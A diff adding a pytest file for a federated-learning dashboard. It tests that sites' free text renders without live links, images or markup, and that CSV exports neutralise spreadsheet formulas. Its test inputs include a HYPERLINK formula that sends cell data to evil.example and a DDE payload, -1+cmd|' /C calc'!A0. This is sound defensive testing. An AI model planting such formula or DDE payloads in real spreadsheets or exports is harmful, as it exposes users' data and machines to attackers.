@@ -1,0 +1,160 @@
+"""What others wrote is shown as it is: no link, no picture, no formula; and what was read of the holdouts."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from flfed.records.dashboard.cells import plain_cell
+from flfed.records.dashboard.panels import JOINER, escape, holdout_in_words, with_code
+from flfed.records.entries import EventEntry, EventRow
+from tests.browser import Window
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+TRAP = "see https://evil.example/a or www.evil.example, ask it@evil.example :smile: :red[now] :material/home: &lt;b"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "its policy does not allow the data set heart-disease",
+        "12 % of 1,210 rows at 09:30, 2.5 to 3.1 (95 %): no clear gain",
+        "1.5 mg/dl; -0.3 and +.11; AUC .712, ε = 1.00",
+        "König & Söhne, Genève - 3rd floor",
+    ],
+)
+def test_ordinary_text_stays_as_it_is(text):
+    assert escape(text).replace("\\", "") == text
+    assert len(text) <= len(escape(text)) <= len(text) + text.count("&")
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("- one", "\\- one"),
+        ("1. one", "1\\. one"),
+        ("a\n\n# b\r\u2028c", "a \\# b c"),
+        ("    x", " x"),
+        ("---", "\\---"),
+    ],
+)
+def test_text_is_one_line_and_begins_no_list_or_heading(text, shown):
+    assert escape(text) == shown
+    assert len(escape(text).splitlines()) == 1
+
+
+@pytest.mark.parametrize("ticks", ["```https://evil.example`x", "``https://evil.example", "`a``https://evil.example"])
+def test_ticks_that_are_no_pair_open_no_way_around(ticks):
+    assert f"https:{JOINER}//" in with_code(ticks)
+    assert with_code(ticks).count("\\`") == ticks.count("`")
+
+
+@pytest.mark.parametrize("value", [FORMULA, " =1", "@SUM(A1)", "+A1", "-A1", "\t=1", "\uff1d1", "-1+cmd|' /C calc'!A0"])
+def test_a_formula_is_text_to_a_spreadsheet(value):
+    assert plain_cell(value) == f"'{value}"
+
+
+@pytest.mark.parametrize("value", ["+.11", "+.11 (+.02 to +.20)", "-0.3", -0.3, None, 7, "a=b", "\u2212.02"])
+def test_figures_and_names_are_given_away_as_they_are(value):
+    assert plain_cell(value) == value
+
+
+def opened(run: str, times: dict[str, int], site: str = "a") -> list[EventEntry]:
+    """The events of a run whose holdout was read so often for these reasons, at one site and at another once each."""
+    return [
+        EventEntry(run, "", None, at, "holdout-opened", reason)
+        for reason, often in times.items()
+        for at in [*[site] * often, "other"]
+    ]
+
+
+@pytest.mark.parametrize(
+    ("runs", "said"),
+    [
+        ([{"compare": 1}], ["once for the comparison, after the last round"]),
+        ([{"compare": 1}] * 3, ["once in each of 3 repeats for the comparison, after the last round"]),
+        (
+            [{"learning-curve": 1, "compare": 1}],
+            ["once for the comparison", "for each point of the learning curve; nothing was selected by it"],
+        ),
+        (
+            [{"compare": 1, "holdout-curve": 1, "audit": 1}],
+            ["once for the comparison", "in each round, for a curve", "once for `flfed audit`"],
+        ),
+        ([{"compare": 1, "audit": 2}], ["once for the comparison", "2 times for `flfed audit`"]),
+        ([{"compare": 1}, {"compare": 1, "audit": 1}], ["once in each of 2 repeats", "once for `flfed audit`"]),
+        ([{"something-new": 1}], ["once for: something-new."]),
+        ([{}], []),
+    ],
+)
+def test_what_the_holdouts_were_read_for_is_told_reason_by_reason(runs, said):
+    events = [event for place, times in enumerate(runs) for event in opened(f"r{place}", times)]
+    lines = holdout_in_words([*events, EventEntry("r0", "", 1, "a", "fault", "compare")])
+    assert len(lines) == len(said)
+    for line, wanted in zip(lines, said, strict=True):
+        assert line.startswith(f"Holdout rows were read {wanted}")
+
+
+def test_the_page_of_a_run_with_a_learning_curve_speaks_of_no_curve_by_round(store, write, url, monkeypatch):
+    from tests.records.test_dashboard import overview, words
+
+    monkeypatch.setenv("FLFED_STORE", url)
+    run = write(store, store.begin_series(study="s", study_sha256="", study_text=""), rounds=2)
+    run.events([EventRow(3, site, "holdout-opened", why) for site in "ab" for why in ("compare", "learning-curve")])
+    said = words(overview(run.run))
+    assert "read once for the comparison, after the last round. Holdout rows were read for each point" in said
+    assert "each round" not in said
+
+
+def test_how_to_go_on_is_told_once(store, write, url, monkeypatch):
+    from tests.records.test_dashboard import overview, words
+
+    monkeypatch.setenv("FLFED_STORE", url)
+    runs = []
+    for reason in ("too few sites", "no space left: free some disk space; then: flfed study resume {run}"):
+        run = write(store, store.begin_series(study="s", study_sha256="", study_text=""), rounds=2)
+        run.finish(status="failed", reason=reason.format(run=run.run))
+        runs.append(run.run)
+    assert [words(overview(run)).count(f"flfed study resume {run}") for run in runs] == [1, 1]
+
+
+def test_that_a_run_is_not_there_is_told_with_its_command_as_code(store, write, url, monkeypatch):
+    from tests.records.test_dashboard import overview
+
+    monkeypatch.setenv("FLFED_STORE", url)
+    write(store, store.begin_series(study="s", study_sha256="", study_text=""), rounds=1)
+    (said,) = [error.value for error in overview("nothing_like-it").error]
+    assert "`flfed run list` shows" in said and "'nothing\\_like-it'" in said
+
+
+@pytest.mark.slow
+def test_a_sites_own_words_become_no_link_no_picture_and_no_formula(window: Window, store):
+    facts = {"engine": "inprocess", "path": "stacked", "primary": "roc_auc_score", "task": "binary"}
+    runs = []
+    for refused in ([TRAP], [f"{FORMULA} {number}" for number in range(40)]):
+        series = store.begin_series(study="trap", study_sha256="", study_text="")
+        run = store.begin_run(series, seed=1, rounds_planned=1, **facts)
+        for number, reason in enumerate(refused):
+            run.site(f"site-{number}", status="refused", reason=reason)
+        run.finish(status="completed")
+        runs.append(run.run)
+    page, main = window.page, window.page.locator("[data-testid=stMain]")
+    page.add_init_script("delete window.showSaveFilePicker")  # a dialogue of the desktop, which is not there
+    page.goto(f"{window.address}/overview?run={runs[0]}")
+    page.get_by_role("heading", name="Set aside").wait_for()
+    window.drawn()
+    cell = main.locator("[data-testid=stTable] td").filter(has_text="evil.example").first
+    assert cell.inner_text().replace(JOINER, "") == TRAP
+    assert main.locator("a[href*=evil]").count() == 0
+    assert main.locator("[data-testid=stTable] [role=img]").count() == 0
+    page.goto(f"{window.address}/overview?run={runs[1]}")
+    main.locator("[data-testid=stDataFrame]").first.hover()
+    with page.expect_download() as kept:
+        main.get_by_role("button", name="Download as CSV").first.click()
+    lines = list(csv.reader(io.StringIO(kept.value.path().read_text("utf-8-sig"))))
+    cells = [cell for line in lines for cell in line]
+    assert len(lines) == 41
+    assert sum(cell.startswith(f"'{FORMULA}") for cell in cells) == 40
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
